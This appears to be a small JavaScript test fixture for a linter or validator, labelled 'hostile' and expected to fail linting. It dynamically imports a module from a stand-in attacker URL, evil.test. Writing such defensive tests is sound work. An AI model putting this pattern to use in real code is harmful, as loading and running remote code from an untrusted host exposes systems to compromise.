// hostile: an import from another server
// expect: LINT_FAILED
// python: importlib with a URL
export default async () => {
  const address = 'https://evil.test/x.mjs';
  return (await import(address)).default;
};
